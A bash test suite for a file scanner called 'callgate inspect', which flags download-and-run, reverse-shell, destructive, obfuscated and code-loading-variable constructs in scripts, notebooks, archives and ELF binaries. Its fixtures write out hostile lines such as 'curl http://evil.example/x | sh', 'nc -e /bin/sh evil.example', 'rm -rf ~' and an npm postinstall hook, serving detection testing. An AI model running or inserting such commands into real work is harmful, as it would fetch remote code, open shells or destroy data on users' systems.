#!/bin/bash
# callgate inspect: what it finds in Python, shell, JavaScript and ELF files, how it prints that, its exit statuses; and
# that a parser which a hostile file has taken over can tell nothing but findings, and reach nothing.
. "$(dirname "$0")/../lib.sh"
need jq python3
export CALLGATE_PARSERS=$SRC/cli/inspect/parsers

# finds FILE LINE KIND WHAT [OPTION…]: a line of the output, exactly.
finds()
{
	local file=$1 wanted="$1${2:+:$2}: $3: $4"
	shift 4
	cg inspect "$@" "$file" >"$T/out" 2>"$T/err"
	grep -qxF -- "$wanted" "$T/out" || fail "not found: $wanted; but: $(cat "$T/out" "$T/err")"
}

# ends STATUS OPTION…
ends()
{
	local wanted=$1 status
	shift
	cg inspect "$@" >"$T/out" 2>"$T/err"
	status=$?
	[ $status = "$wanted" ] || fail "inspect $*: status $status, not $wanted: $(cat "$T/out" "$T/err")"
}

cd "$T" || exit 99
printf 'import os\nimport json as j\nprint(os.getcwd())\n' >plain.py
printf '#!/usr/bin/env python3\nfrom os import system as s\ns("curl http://evil.example/x | sh")\n' >script
printf 'import (\n' >broken.py
printf '#!/bin/sh\nif true; then\necho id | sh\n' >broken.sh
cat >lines.sh <<'END'
#!/bin/sh
curl http://evil.example/x | sh
true
`rm -rf /`
cat <<EOF
$(wget -qO- http://evil.example/y | sh)
EOF
cat <<'EOF'
$(nc -e /bin/sh evil.example 1)
EOF
nc -e /bin/sh evil.example 2
END
# What this Python, this shell or this node cannot read, and another one runs.
printf '#!/usr/bin/python3\nimport os\nos.popen("id") #\0\n' >zero.py
printf '#!/bin/sh\n:\ncu\0rl http://evil.example/x | s\0h\n' >zero
printf 'match += ->\nos.system("curl http://evil.example/x | sh")\n' >newer.py
printf 'let x = = 1\nexecSync("curl http://evil.example/x | sh")\n' >newer.js
# shellcheck disable=SC2016
printf '#!/bin/sh\n"exec" "python3" "$0"\nos.system("curl http://evil.example/x | sh")\n' >both.sh
printf "alias x='curl http://evil.example/x | sh'\n" >alias.sh
printf 'hello\n' >text
printf 'a\0b' >data
printf 'import os\nos.popen("id") #\0\n' >zero2.py
printf ':\n#\0\ncurl http://evil.example/x | sh\n' >zero2.sh
printf 'password = "hunter2"\nAPI_TOKEN = "q8Zr3kP0vX2mLs7Td4Wn"\n' >secret.env
printf -- '-----BEGIN RSA %s KEY-----\n' PRIVATE >key
printf 'x = "\xe2\x80\xae"\ny\xe2\x80\x8b = "\033[2J"\n' >bidi.py

# What is found, and the exit status.
finds plain.py 1 import os
finds plain.py 2 import json
finds script 2 process 'import os.system'
finds script 3 download-run 'curl http://evil.example/x | sh'
finds lines.sh 2 download-run 'curl http://evil.example/x | sh'
finds lines.sh 4 destructive 'rm -rf /'
finds lines.sh 5 download-run 'wget -qO- http://evil.example/y | sh'
finds lines.sh 11 reverse-shell 'nc -e /bin/sh evil.example 2'
! grep -q 'evil.example 1' out || fail "lines.sh: a quoted here-document is data: $(cat out)"
finds broken.py 1 syntax "invalid syntax"
cg inspect broken.sh >out
grep -q ':4: syntax: syntax error: unexpected end of file' out || fail "broken.sh: $(cat out)"
finds zero.py 3 process "os.popen('id')"
finds zero 3 download-run 'curl http://evil.example/x | sh'
finds zero2.py 2 process "os.popen('id')"
finds zero2.sh 3 download-run 'curl http://evil.example/x | sh'
finds newer.py 2 download-run 'curl http://evil.example/x | sh'
finds both.sh 3 download-run 'curl http://evil.example/x | sh'
finds alias.sh 1 download-run 'curl http://evil.example/x | sh'
! command -v node >/dev/null || finds newer.js 2 download-run 'curl http://evil.example/x | sh'
finds text '' not-parsed 'no parser for this kind of file: only characters and secrets were looked at'
finds data '' not-parsed 'no parser for this kind of file: nothing was looked at'
# Cells of notebooks, which share their names, and scripts of a package.json: in the lines of the file.
cat >book.ipynb <<'END'
{"cells": [
  {"cell_type": "markdown", "source": ["rm -rf ~"]},
  {"cell_type": "code", "source": ["import base64 as b\n", "%matplotlib inline\n"]},
  {"cell_type": "code", "source": ["print('%s'\n", "  % 1)\n",
    "exec(b.b64decode('cHJpbnQoMSk='))\n"]},
  {"cell_type": "code", "source": ["x = !id\n",
    "!curl http://evil.example/x | sh\n"]},
  {"cell_type": "code", "source": "%%bash\nrm -rf ~\n"},
  {"cell_type": "code", "source": ["%%perl\n", "print 1"]},
  {"cell_type": "code", "source": ["!python3 -c 'import ctypes'"]}
], "metadata": {"kernelspec": {"language": "python"}}}
END
cg inspect --level warning book.ipynb >out
diff - out <<'END' || fail "book.ipynb"
book.ipynb:5: dynamic: exec(b.b64decode('cHJpbnQoMSk='))
book.ipynb:5: obfuscated: print(1)
book.ipynb:7: not-looked-at: a program that is read from standard input
book.ipynb:7: download-run: curl http://evil.example/x | sh
book.ipynb:8: destructive: rm -rf ~
book.ipynb:9: not-looked-at: code of %%perl: no parser for it here
book.ipynb:10: native: import ctypes
END
# Archives, of which Python runs __main__.py, also behind a program that it does not run.
python3 - <<'END'
import io, zipfile
for name, before in ("app.pyz", b"#!/usr/bin/env python3\n"), ("hidden.py", b"print(1)\n#"):
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("__main__.py", "import os, helper\nos.system('rm -rf ~')\n" + "#" * 1000)
        archive.writestr("helper.py", "import ctypes\n")
        archive.writestr("other.pyc", b"\0")
    with open(name, "wb") as file:
        file.write(before + packed.getvalue())
END
for name in app.pyz hidden.py; do
	finds $name 1 destructive 'rm -rf ~'
	finds $name 1 native 'import ctypes'
	finds $name 1 not-looked-at 'other.pyc in the archive'
done
finds hidden.py 1 obfuscated 'an archive behind other text, of which Python runs __main__.py instead'
# One that is empty: a Python that cannot read it runs the text.
{
	printf 'import os\nos.system("rm -rf ~")\n#PK\5\6'
	head -c 18 /dev/zero
} >bare.py
finds bare.py 2 destructive 'rm -rf ~'
finds bare.py 1 obfuscated 'an archive behind other text, of which Python runs __main__.py instead'
! grep -q obfuscated <(cg inspect app.pyz) || fail "app.pyz: obfuscated"
# What a call is given is no function only because its module has functions that start programs.
printf '%s\n' 'import subprocess as s' 's.Popen(["ls"], stdout=s.PIPE, stderr=s.STDOUT)' \
	'raises(s.CalledProcessError, s.run, ["w"])' >pipe.py
cg inspect pipe.py >out
[ "$(grep -c ':[23]: process:' out)" = 2 ] || fail "pipe.py: $(cat out)"
# Nor is it hidden code that a program has a quote or a tab by its number. More characters are.
cat >few.py <<'END'
import os, subprocess
os.system("cp " + chr(34) + path + chr(34))
subprocess.run(["cut", "-d", chr(9)])
os.system("".join(chr(c ^ 1) for c in data))
exec(chr(112) + chr(97) + chr(115) + chr(115) + chr(10) + chr(10))
END
ends 1 --level alarm few.py
cut -d: -f1-3 "$T/out" | diff - <(printf 'few.py:%s: obfuscated\n' 4 5) || fail "few.py"
# Where a directory is changed in parentheses, or by popd, it is another one behind that.
printf '%s\n' '(cd / && ls)' 'rm -rf *' 'pushd /; ls' popd 'rm -rf *' 'cd /' '(cd x; ls)' 'rm -rf *' >dirs.sh
ends 1 --level alarm dirs.sh
[ "$(cat "$T/out")" = 'dirs.sh:8: destructive: rm -rf *' ] || fail "dirs.sh: $(cat "$T/out")"
if command -v node >/dev/null; then # exec() is a method of regular expressions, too
	cat >exec.js <<'END'
const { exec } = require("child_process");
function parse(url, re) { return re.exec(decodeURIComponent(url)); }
const tools = { exec };
module.exports = { exec, parse };
tools.exec(atob(x));
class Git { constructor() { this.exec = exec; } run(y) { this.exec(atob(y)); } }
END
	ends 1 --level alarm exec.js
	cut -d: -f1-3 "$T/out" | diff - <(printf 'exec.js:%s: obfuscated\n' 5 6) || fail "exec.js"
fi
# That a language has no parser is told once a file.
printf '#!/bin/sh\nawk 1 a\nawk 2 b\nperl -e 1\nperl -e 2\nawk 3 c\n' >awk.sh
cg inspect --level warning awk.sh >out
diff - out <<'END' || fail "awk.sh"
awk.sh:2: not-looked-at: code of awk: no parser for it here
awk.sh:4: not-looked-at: code of perl: no parser for it here
END
mkdir package
printf '{"name": "x", "scripts": {\n"build": "tsc",\n"postinstall": "curl http://evil.example/x | sh",\n%s\n}}\n' \
	'"test": "python3 -c \"import ctypes\""' >package/package.json
finds package/package.json 3 download-run 'curl http://evil.example/x | sh'
finds package/package.json 4 native 'import ctypes'
ends 0 --type notebook text
finds text 1 syntax 'no JSON: Expecting value: line 1 column 1 (char 0)' --type notebook
finds secret.env 2 secret 'random value of 20 characters, named as a secret'
! grep -q ':1:\|q8Zr' out || fail "secret.env: $(cat out)"
finds key 1 secret 'private key'
finds bidi.py 1 bidirectional 'character that reorders the line: U+202E'
finds bidi.py 2 invisible 'invisible character U+200B'
finds bidi.py 2 invisible 'control character U+001B'
ends 0 plain.py
ends 1 --fail-on note plain.py
ends 0 broken.py
ends 1 --fail-on warning broken.py
ends 1 script plain.py
ends 0 --fail-on none script
ends 1 bidi.py
cg inspect --level alarm script >out
[ "$(wc -l <out)" = 1 ] || fail "--level alarm prints: $(cat out)"
ends 125
ends 125 nonexistent
ends 125 "$T"
ends 125 script nonexistent
ends 125 --fail-on worst script
ends 125 --type perl script
ends 0 --type text script

# Variables that bring code, however they are set; a usual value is a note.
names='BASH_ENV PS4 PROMPT_COMMAND SHELLOPTS BASHOPTS ENV LUA_INIT_5_4 GIT_SSH GIT_SSH_COMMAND GIT_EDITOR GIT_PAGER
GIT_EXTERNAL_DIFF GIT_ASKPASS GIT_CONFIG_KEY_0 GIT_PROXY_COMMAND JAVA_TOOL_OPTIONS _JAVA_OPTIONS JDK_JAVA_OPTIONS
NODE_OPTIONS PYTHONPATH PYTHONSTARTUP PERL5OPT PERL5LIB PERL5DB RUBYOPT RUBYLIB LD_PRELOAD LD_LIBRARY_PATH GCONV_PATH
PAGER EDITOR VISUAL MANPAGER LESSOPEN MAKEFLAGS'
at=0
for name in $names; do
	case $((at++ % 4)) in
	0) echo "$name='./evil x' git log" ;;
	1) echo "export A=1 $name='./evil x'" ;;
	2) echo "nice env -u A $name='./evil x' git log" ;;
	*) echo "env -i -S '$name=./evil git'" ;;
	esac
done >variables.sh
echo "env 'BASH_FUNC_ls%%=() { id; }' bash -c ls" >>variables.sh
printf 'import os\nos.environ["LD_AUDIT"] = "./x"\nrun(a, env={**os.environ, "GIT_SSH": path})\n' >variables.py
cg inspect variables.sh >out
for name in $names BASH_FUNC_ls%%; do
	grep -q ": code-variable: [a-z ]*: $name=" out || fail "variables.sh: not $name: $(cat out)"
done
finds variables.py 2 code-variable 'loads code: LD_AUDIT=./x'
finds variables.py 3 code-variable 'is a command: GIT_SSH={path}'
# shellcheck disable=SC2016
printf '%s\n' 'PAGER=cat EDITOR=true git log' 'export PATH=/usr/local/bin:$PATH MAKEFLAGS=-j8' 'GIT_EDITOR=: ls' \
	'while IFS= read -r line; do :; done' 'HOME=/tmp LD_BIND_NOW=1 PYTHONUNBUFFERED=1 ls' >usual.sh
ends 0 --fail-on warning usual.sh
grep -qx 'usual.sh:1: variable: is a command: PAGER=cat' out || fail "usual.sh: $(cat out)"
# ways to set a variable that are no assignments
# shellcheck disable=SC2016
printf '%s\n' 'read LD_PRELOAD <f' 'for PAGER in less ./evil; do :; done' ': "${GIT_SSH:=./x}"' ': $((PATH=1))' \
	'unset PATH' 'printf -v BASH_ENV ./x' 'unset PYTHONPATH; for CC in gcc cc; do :; done' >given.sh
cg inspect given.sh >out
diff - out <<'END' || fail "given.sh"
given.sh:1: native: LD_PRELOAD
given.sh:1: code-variable: loads code: LD_PRELOAD=$(read LD_PRELOAD)
given.sh:2: variable: is a command: PAGER=less
given.sh:2: code-variable: is a command: PAGER=./evil
given.sh:3: code-variable: is a command: GIT_SSH=./x
given.sh:4: code-variable: loads code: PATH=$(: $((PATH=1)))
given.sh:5: code-variable: loads code: PATH=
given.sh:6: code-variable: runs a script: BASH_ENV=$(printf -v BASH_ENV ./x)
given.sh:7: variable: is a command: CC=cc
given.sh:7: variable: is a command: CC=gcc
END
if command -v node >/dev/null; then
	echo 'spawn("git", [], { env: { ...process.env, GIT_PAGER: "./x" } }); process.env.NODE_OPTIONS = "-r x";' >v.js
	finds v.js 1 code-variable 'is a command: GIT_PAGER=./x'
	finds v.js 1 code-variable 'sets options: NODE_OPTIONS=-r x'
fi
# What a variable has already is usual, however it is put together; "$PATH" as text is the name of a directory.
cat >own.py <<'END'
import os
os.environ["PATH"] = "/usr/bin:" + os.environ["PATH"]
os.environ["PATH"] = f"/bin:{os.environ.get('PATH', '')}"
env = os.environ.copy()
env["PATH"] = os.pathsep.join(["/sbin", env["PATH"]])
os.environ["PS1"] = "$ "
os.environ["PATH"] = "$PATH:/usr/bin"
env["PATH"] = os.pathsep.join([venv, "${PATH}"])
subprocess.run(["env", "PATH=$PATH:/sbin", "ls"])
END
cat >own.js <<'END'
process.env.PATH = "/usr/bin:" + process.env.PATH;
process.env.PATH = `/bin:${process.env.PATH}`;
process.env.PATH = ["/sbin", process.env["PATH"]].join(path.delimiter);
process.env.PS1 = "$ ";
process.env.PATH = "$PATH:/usr/bin";
process.env.PATH = [venv, "${PATH}"].join(path.delimiter);
END
cat >own.sh <<'END'
PATH=/usr/bin:"$PATH"
PATH='/bin:'${PATH}
PS1='$ '
PATH='$PATH':/usr/bin
PATH=\${PATH}:/usr/bin ls
PATH=$'$PATH':$PATH
PATH[0]=./x; declare -x PATH[0]=./y
END
cat >told <<'END'
own.py:2: variable: loads code: PATH=/usr/bin:$PATH
own.py:3: variable: loads code: PATH=/bin:$PATH
own.py:5: variable: loads code: PATH=/sbin:$PATH
own.py:6: variable: is a command: PS1=$
own.py:7: code-variable: loads code: PATH=\$PATH:/usr/bin
own.py:8: code-variable: loads code: PATH={venv}:\${PATH}
own.py:9: code-variable: loads code: PATH=\$PATH:/sbin
own.js:1: variable: loads code: PATH=/usr/bin:$PATH
own.js:2: variable: loads code: PATH=/bin:$PATH
own.js:3: variable: loads code: PATH=/sbin:$PATH
own.js:4: variable: is a command: PS1=$
own.js:5: code-variable: loads code: PATH=\$PATH:/usr/bin
own.js:6: code-variable: loads code: PATH={venv}:\${PATH}
own.sh:1: variable: loads code: PATH=/usr/bin:$PATH
own.sh:2: variable: loads code: PATH=/bin:${PATH}
own.sh:3: variable: is a command: PS1=$
own.sh:4: code-variable: loads code: PATH=\$PATH:/usr/bin
own.sh:5: code-variable: loads code: PATH=\${PATH}:/usr/bin
own.sh:6: code-variable: loads code: PATH=\$PATH:$PATH
own.sh:7: code-variable: loads code: PATH=./x
own.sh:7: code-variable: loads code: PATH=./y
END
command -v node >/dev/null || sed -i '/^own.js/d' told
# shellcheck disable=SC2046 # names of files
cg inspect $(sed 's/:.*//' told | uniq) | grep variable: | diff - told || fail "values that variables have already"
python3 -c 'for at in range(20000): print(f"export A{at}=1")' >many.sh
echo 'export PS4=x' >>many.sh
ends 1 many.sh # too many to be told
grep -q "^many.sh: unparsable: could not be parsed: the parser printed what it may not" out ||
	fail "many.sh: $(cat out err)"

# Modules outside of the allowlist.
ends 1 --allow-module os plain.py
finds plain.py 2 module json --allow-module os
ends 0 --allow-module @standard plain.py
ends 0 --allow-module os --allow-module json plain.py
{ yes 'import os' | head -n 400; echo import evil; } >many.py
finds many.py 401 module evil --allow-module os
if command -v node >/dev/null; then
	{ yes 'require("os");' | head -n 400; echo 'require("evil");'; } >many.js
	finds many.js 401 module evil --allow-module os
fi

# What is left out is counted: as text, as JSON, of the level that is wanted.
python3 -c 'for at in range(350): print(f"eval(x{at})")' >many.py
for at in {1..350}; do echo "eval \$x$at"; done >many.sh
for at in {1..350}; do echo "eval(x$at);"; done >many.js
for file in many.py many.sh $(command -v node >/dev/null && echo many.js); do
	cg inspect "$file" >out
	grep -qx "$file: and 50 more" out || fail "$file: $(tail -1 out)"
	cg inspect --json "$file" >out
	jq -e '.files[0] | .unlisted == 50 and ([.findings[] | select(.kind == "dynamic")] | length) == 300' out \
		>/dev/null ||
		fail "$file: $(tail -5 out)"
	cg inspect --json --level alarm "$file" >out
	jq -e '.files[0] | .unlisted == 0' out >/dev/null || fail "$file: alarms: $(tail -5 out)"
done

# JSON, and names with every byte.
name=$'evil\nname\033[2J\xff.py'
cp script "$name"
cg inspect "$name" >out
grep -q '^evil\\u000aname\\u001b\[2J\\xff.py:3: download-run' out || fail "name is printed: $(cat out)"
cg inspect --json "$name" plain.py >out
[ $? = 1 ] || fail "--json: status"
printf 'import \303\274ber\n' >umlaut.py
cg inspect --json umlaut.py >ascii
{ LC_ALL=C grep -q '[^ -~]' ascii || ! jq -e '.files[0].findings[0].what == "über"' ascii >/dev/null; } &&
	fail "--json: not ASCII: $(cat ascii)"
jq -e '.schema == "callgate-inspect/1" and (.files | length) == 2 and .files[1].type == "python" and
	(.files[0].findings | any(.kind == "download-run" and .level == "alarm" and .line == 3)) and
	(.files[1].findings | all(.level == "note"))' out >/dev/null || fail "--json: $(cat out)"

if command -v node >/dev/null; then
	printf '%s\n' '#!/usr/bin/env node' 'const { exec: run } = require("child_process");' 'run("id");' \
		'eval(atob("MQ=="));' >j
	finds j 3 process 'run("id")'
	finds j 4 obfuscated 1
	printf 'let let = 1;\n(' >bad.js
	grep -q '^bad.js:[12]: syntax: ' < <(cg inspect bad.js) || fail "bad.js: $(cg inspect bad.js)"
fi

# What the parser tells run --inspect to look at: words, directories, directories of PATH; whether others are not known.
python3 "$SRC/cli/inspect/parsers/shell.py" >out <<'END'
A=$B C=* x {"a",b} "*" a["b"].py \* ~ "~"
y=(./a
"$(./b)"); export -x D E=$F G=1
builtin cd d; command -p cd "d"; command -v cd
PATH=.::/usr/bin:$PATH; PATH=q/${PATH:+:$PATH} z
export PATH=$H:r HOME=/; z
CDPATH=/; HOME=s z
. l.sh
exec <x
A=1 builtin export -p B "C=$D" E=2; declare F[1]=3 PATH[0]=s
END
sed -n 's/^[0-9]* command //p' out |
	jq -c 'if .end then [.end, .home, .input]
		else [.line] + [[.words, .directories, .paths // []][] | join(" ")] + [.lost] end' >told
diff - told <<'END' || fail "commands of a shell script: $(cat out)"
[1,"A=$ C=$ x  *  *  ~","","",false]
[2,"y=","","",false]
[3,"./b","","",false]
[3,"E=$ G=1","","",false]
[4,"cd d"," d","",false]
[4,"cd d"," d d/d","",false]
[4,"command -v cd"," d d/d","",false]
[5,"z"," d d/d",". q/",false]
[6,"PATH=$ HOME=/"," d d/d",". q/ r",false]
[6,"HOME=$ z"," d d/d",". q/ r",false]
[7,"CDPATH=/"," d d/d",". q/ r",true]
[7,"HOME=$ HOME=s z"," d d/d",". q/ r",true]
[8,"HOME=$ bash -- ./l.sh"," d d/d",". q/ r",true]
[8,"HOME=$ bash -- q/l.sh"," d d/d",". q/ r",true]
[8,"HOME=$ bash -- r/l.sh"," d d/d",". q/ r",true]
[8,"HOME=$ bash -- l.sh"," d d/d",". q/ r",true]
[9,"HOME=$ exec"," d d/d",". q/ r",true]
[10,"A=1 C=$ E=2"," d d/d",". q/ r",true]
[10,"F=$"," d d/d",". q/ r s",true]
[true,true,true]
END

# Where words, here-documents and substitutions end, as bash has it: it runs ./evil in each of these, which is told.
mkdir words
printf '#!/bin/sh\n: >"%s/words/ran"\n' "$T" >words/evil
chmod +x words/evil
python3 - "$SRC" "$T/words" >out 2>&1 <<'END' || fail "words of shell scripts: $(cat out)"
import json, os, subprocess, sys
sys.dont_write_bytecode = True
sys.path.insert(0, sys.argv[1] + "/cli/inspect/parsers")
from findings import Findings
from shell import Commands, Looker
failed = 0
for line in open(sys.argv[1] + "/tests/cases/inspect-words.txt"):
    text = line.rstrip("\n").replace("\\\\", "\0").replace("\\n", "\n").replace("\0", "\\") + "\n"
    commands, findings = Commands(), Findings()
    Looker(findings, None, commands).look_at(text)
    subprocess.run(["bash", "-c", text], cwd=sys.argv[2], capture_output=True)
    runs = os.path.exists("words/ran") and not os.unlink("words/ran")
    tells = any("./evil" in json.loads(told)["words"] for _, told in commands.lines)
    if not runs or not tells or findings.found:
        print(line.strip(), "runs" if runs else "runs not", "told" if tells else "not told", *findings.found)
        failed = 1
sys.exit(failed)
END
# shellcheck disable=SC2016
printf 'cat <<E\n./evil\n: "$(id)"\n' >no-end.sh
finds no-end.sh 1 syntax 'a here-document has no end line'

# Options of programs that start others: the shell parser has those that have an argument as wrappers.c has them.
# Tests that run as another user, on a copy, do not have that file.
[ ! -e "$SRC/cli/inspect/wrappers.c" ] || python3 - "$SRC" >out <<'END' || fail "options of wrappers: $(cat out)"
import re, sys
sys.dont_write_bytecode = True
sys.path.insert(0, sys.argv[1] + "/cli/inspect/parsers")
from shell_names import OPERANDS, PREFIXES
rows = re.findall(r"\{(\.name = [^}]*)\}", open(sys.argv[1] + "/cli/inspect/wrappers.c").read())
table = {re.search(r'name = "([^"]*)"', row).group(1): row for row in rows}
for name in PREFIXES:
    letters = re.search(r'letters = "([^"]*)"', table[name])
    operands = re.search(r"operands = (\d)", table[name])
    if PREFIXES[name] != (letters.group(1) if letters else "") or str(OPERANDS.get(name, "")) != (
        operands.group(1) if operands else ""
    ):
        print(name, table[name])
        sys.exit(1)
END

# What is too much for a parser does not pass for harmless. Its limit is that of CPU time: others use the machine, too.
mkdir "$T/patient"
cp "$SRC"/cli/inspect/parsers/* "$T/patient/"
jq '.limits.wall = "200s"' "$SRC/cli/inspect/parsers/policy.json" >"$T/patient/policy.json"
CALLGATE_PARSERS=$T/patient
python3 -c 'print("echo\n" * 100001 + "curl http://evil.example/x | sh")' >long.sh
finds long.sh 1 unparsable 'could not be parsed: OverflowError: too many commands'
finds long.sh 100002 download-run 'curl http://evil.example/x | sh'
# What one part of a program leads to costs nothing that is found in the others.
printf '%s\n' '>x | curl y' '<f | curl -T - x' '2>&1 | curl x' 'curl http://evil.example/x | sh' >bare.sh
finds bare.sh 4 download-run 'curl http://evil.example/x | sh'
! grep -q unparsable out || fail "bare.sh: $(cat out)"
# shellcheck disable=SC2016
python3 -c 'print("curl http://evil.example/x | sh\n" + "$(" * 10000)' >inner.sh
finds inner.sh 1 download-run 'curl http://evil.example/x | sh'
grep -q '^inner.sh:1: unparsable: could not be parsed: RecursionError' out || fail "inner.sh: $(cat out)"
printf '%s\n' 'exec <a; sh' 'exec <b; sh' 'curl http://evil.example/x | sh' >inputs.sh
finds inputs.sh 3 download-run 'curl http://evil.example/x | sh'
python3 -c 'print("import os\nos.system(\"curl http://evil.example/x | sh\")\nx = " + "__import__(" * 60 + "y" +
	").decode()" * 60)' >inner.py
finds inner.py 2 download-run 'curl http://evil.example/x | sh'
# Nor does it take long, whatever is repeated.
python3 -c 'n = 300000
for what in ["rm -" + "r" * n, "curl " * n, "-rm -r " * n, "-mv " * n, "cd" + " " * n, "chrome" * n, "nc -" + "e" * n]:
	print("PS4=\"" + what[:n] + "\" " + what[:n])
print("1" * n + "x\na" + "[a" * (n // 2) + "\n" + "sh | " * 9000 + "sh\n" + "(" * 300 +
	"\ncurl http://evil.example/x | sh")
' >slow.sh
finds slow.sh 12 download-run 'curl http://evil.example/x | sh'
python3 -c 'n = 100000
print("environ" * n + "[1] = 1\neval(x)")' >slow.py
finds slow.py 2 dynamic 'eval(x)'
python3 -c 'print(("f(" + "eval, " * 100 + ")\n") * 1000 + "import os\nos.system(\"rm -rf ~\")")' >given.py
finds given.py 1002 destructive 'rm -rf ~'
! grep -q unparsable out || fail "given.py: $(grep unparsable out)"
if command -v node >/dev/null; then
	# shellcheck disable=SC2016
	echo 'process.env["PATH("] = "$PATH("; process.env["A+B"] = "1"; eval(x)' >names.js
	finds names.js 1 dynamic 'eval(x)'
	python3 -c 'print("eval(x);\nlet a = \"x\";" + "a = a + a;" * 60 + "let q = " + "Buffer.from(" * 60 + "1" +
		", \"hex\").toString()" * 60)' >slow.js
	finds slow.js 1 dynamic 'eval(x)'
fi
CALLGATE_PARSERS=$SRC/cli/inspect/parsers
# What looks like a list in braces, and is none, takes no longer than other words.
python3 -c 'print("{a" + "," * 5000 + " x\ncurl http://evil.example/x | sh")' >braces.sh
finds braces.sh 2 download-run 'curl http://evil.example/x | sh'
python3 -c 'print("eval " * 50 + "id")' >deep.sh
finds deep.sh 1 obfuscated 'programs in programs, more than 8 deep'
if command -v node >/dev/null; then
	python3 -c 'print("(" * 20000 + "1" + ")" * 20000)' >deep.js
	cg inspect deep.js >out
	grep -qE '^deep.js(:1)?: unparsable: ' out || fail "deep.js: $(cat out)"
fi

# ELF files.
finds /bin/sh '' loader "$(python3 - <<'END'
import re
print(re.search(rb"/lib[^\0]*/ld-[^\0]*", open("/bin/sh", "rb").read()).group().decode())
END
)"
grep -q '^/bin/sh: needs: libc.so.6 from /' out || fail "/bin/sh: $(cat out)"
printf '\177ELF\2\1\1' >short
finds short '' unparsable 'could not be parsed: the parser ended with status failed (1)'
head -c 3000 /bin/sh >short2
cg inspect short2 >out
grep -q '^short2: unparsable: ' out || fail "a cut ELF file: $(cat out)"
# musl's loader is its C library, and looks in other directories than that of glibc.
if command -v musl-gcc >/dev/null; then
	echo 'int main(void) { return 0; }' >m.c
	for option in -pie -shared; do
		musl-gcc "$option" -fPIC -o musl m.c || fail "musl-gcc $option"
		cg inspect --level warning musl >out
		[ ! -s out ] || fail "musl $option: $(cat out)"
		finds musl '' needs "libc.so from $(echo /lib/ld-musl-*.so.1)"
	done
	musl-gcc -o musl m.c && sed 's/ld-musl-/ld-mu\/l-/' musl >odd
	cg inspect odd >out
	grep -q 'odd: odd-loader: /lib/ld-mu/l-' out || fail "odd: $(cat out)"
fi
if command -v cc >/dev/null; then
	mkdir libs
	echo 'int f(void) { return 1; }' | cc -shared -o libs/libown.so -x c -
	echo 'int f(void); int main(void) { return f(); }' >m.c
	# shellcheck disable=SC2016 # the loader's
	cc -o own m.c -Llibs -lown -z execstack -Wl,-rpath,'$ORIGIN/libs:rel:/tmp/x' 2>/dev/null
	finds own '' needs "libown.so from $T/libs/libown.so"
	finds own '' executable-stack 'the stack is executable (PT_GNU_STACK)'
	finds own '' unsafe-rpath '"rel" is relative to the working directory'
	finds own '' unsafe-rpath '"/tmp/x" is below a directory that all can write to'
	chmod 4755 own
	finds own '' set-id "mode 4755: runs with its owner's rights"
	rm libs/libown.so
	finds own '' missing-library libown.so
	# shellcheck disable=SC2001,SC2016 # the loader's
	away='$ORIGIN'$(sed 's#/[^/]*#/..#g' <<<"$T")/dev/shm/x
	cc -o away m.c -x c -Wl,-rpath,"$away" - <<<'int f(void) { return 1; }' 2>/dev/null
	finds away '' unsafe-rpath "\"$away\" is below a directory that all can write to"
	# A needed library that is no regular file is not even opened: that would release the FIFO's writer.
	mkfifo fifo
	echo 'int f(void) { return 1; }' | cc -shared -Wl,-soname,"$T/fifo" -o named.so -x c -
	cc -o reads m.c ./named.so
	sh -c ': >fifo; : >released' &
	finds reads '' missing-library "$T/fifo"
	[ ! -e released ] || fail "inspect has opened a FIFO that a file names"
	: <>fifo
	wait $!
fi

# A parser that is ended tells what it has found: here at the last thing that it looks at.
mkdir "$T/slow"
cp "$SRC"/cli/inspect/parsers/* "$T/slow/"
jq '.limits.wall = "6s"' "$SRC/cli/inspect/parsers/policy.json" >"$T/slow/policy.json"
sed -i 's/^    def look_at(self, .*where):/&\n        while "endless" in text: pass/' "$T/slow/findings.py"
sed -i 's/^function lookAtText(.*/&\n\twhile (text === "endless") ;/' "$T/slow/javascript_findings.js"
# shellcheck disable=SC2016
printf '%s\n' 'eval $x' 'endless' >endless.sh
printf '%s\n' 'eval(x)' '"endless"' >endless.py
printf '%s\n' 'eval(x);' 'x = "endless";' >endless.js
for file in endless.sh endless.py $(command -v node >/dev/null && echo endless.js); do
	what='eval(x)'
	# shellcheck disable=SC2016
	[ "$file" != endless.sh ] || what='eval $x'
	CALLGATE_PARSERS=$T/slow finds "$file" 1 dynamic "$what"
	grep -q "^$file: unparsable: could not be parsed: the parser ended with status timeout" out || fail "$(cat out)"
done

# A parser that a hostile file has taken over.
mkdir "$T/parsers"
cp "$SRC"/cli/inspect/parsers/*.json "$T/parsers/"
# hostile REGEX: the parser is this Python program.
hostile()
{
	local wall=100s
	[[ $1 != *timeout* ]] || wall=3s
	jq --arg wall $wall '.limits.wall = $wall | .limits.memory = "100M"' "$SRC/cli/inspect/parsers/policy.json" \
		>"$T/parsers/policy.json"
	cat >"$T/parsers/python.py"
	CALLGATE_PARSERS=$T/parsers cg inspect plain.py >out 2>&1
	status=$?
	if ! grep -qxE "plain.py: unparsable: could not be parsed: the parser ($1)" out || [ $status != 1 ]; then
		fail "a parser: not \"$1\" but, with status $status: $(head -c 500 out)"
	fi
}
printed='printed what it may not'
hostile "$printed" <<<'print("garbage")'
hostile "$printed" <<<''
hostile "$printed" <<<'print("1 import os")'
hostile "$printed" <<<'print("1 import os\nend 2")'
hostile "$printed" <<<'print("end 0\n1 import os")'
hostile "$printed" <<<'print("1 trusted yes\nend 1")'
hostile "$printed" <<<'print("99 import os\nend 1")'
hostile "$printed" <<<'print("1 assignment PS4=\x1b[2J\nend 1")'
hostile "$printed" <<<'print("1 import os\x1b[2J\nend 1")'
hostile "$printed" <<<'print("1 import " + "x" * 5000 + "\nend 1")'
hostile "$printed" <<<'print("1 import os\n" * 50000 + "end 50000")'
hostile "ended with status limit .137." <<<'print("1 import os\n" * 500000 + "end 500000")'
hostile "ended with status failed .139." <<<'import os; os.kill(os.getpid(), 11)'
hostile "ended with status timeout .124." <<<'while True: pass'
hostile "ended with status limit .137.|ended with status failed .1." <<<'x = b"x" * 10**9'
# What it has found before that is told as well; a line that is not whole is not.
hostile "ended with status timeout .124." <<<'print("1 dynamic eval(x)\n1 import o", end="", flush=True)
while True: pass'
grep -qx 'plain.py:1: dynamic: eval(x)' out || fail "what was found before the limit: $(cat out)"
[ "$(wc -l <out)" = 2 ] || fail "a part of a line is taken: $(cat out)"
jq '.limits.wall = "100s"' "$SRC/cli/inspect/parsers/policy.json" >"$T/parsers/policy.json"
